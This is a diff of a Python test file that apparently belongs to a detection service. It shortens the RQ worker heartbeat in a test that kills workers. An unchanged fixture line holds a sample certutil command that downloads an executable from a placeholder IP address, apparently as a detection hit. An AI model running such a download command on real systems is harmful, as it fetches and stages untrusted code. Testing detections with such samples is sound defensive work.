@@ -44,6 +44,8 @@ HIT = {
     "CommandLine": "certutil.exe -urlcache -f http://198.51.100.7/a.exe a.exe",
 }
 WAIT_SECONDS = 300  # any wait here is bounded; the figures are printed, not asserted
+# RQ's worker with a heartbeat of seconds rather than 90 (tests/rq_workers.py): a killed worker's job expires sooner.
+QUICK_HEARTBEAT = ("--worker-class", "tests.rq_workers.QuickHeartbeatWorker")
 
 
 @pytest.fixture(scope="module")
@@ -171,9 +173,9 @@ def running_job(database_url: str, token: str):
 def test_a_job_whose_worker_is_killed_ends_failed_and_its_upload_is_removed(nodes):
     database_url, shared, node_env = nodes
     with ExitStack() as stack:
-        node_a = stack.enter_context(serve(database_url, workers=1, env=node_env("a")))
+        node_a = stack.enter_context(serve(database_url, workers=1, env=node_env("a"), worker_options=QUICK_HEARTBEAT))
         workers = {serve.last_worker_pid: "a"}
-        node_b = stack.enter_context(serve(database_url, workers=1, env=node_env("b")))
+        node_b = stack.enter_context(serve(database_url, workers=1, env=node_env("b"), worker_options=QUICK_HEARTBEAT))
         workers[serve.last_worker_pid] = "b"
 
         # 1. The work-horse dies (kill -9 of the process running the job): its worker sees it at once.
@@ -192,8 +194,8 @@ def test_a_job_whose_worker_is_killed_ends_failed_and_its_upload_is_removed(node
         assert list(shared.iterdir()) == []
 
         # 2. A whole worker dies (kill -9 of it and its work-horse, as when its machine is lost): RQ's heartbeat
-        # on the job expires and the job pages fail it from RQ's abandoned-job cleanup
-        # (catalog/platform/rq_abandoned.py).
+        # on the job expires (in seconds with QUICK_HEARTBEAT, ~90 s with RQ's defaults) and the job pages fail
+        # it from RQ's abandoned-job cleanup (catalog/platform/rq_abandoned.py).
         token = upload(node_b, "slow.jsonl", slow_file())["job"]
         wait_for(node_a, token, lambda a: a["status"] == "running" and a["events_done"] > 0)
         worker, horse = running_job(database_url, token)
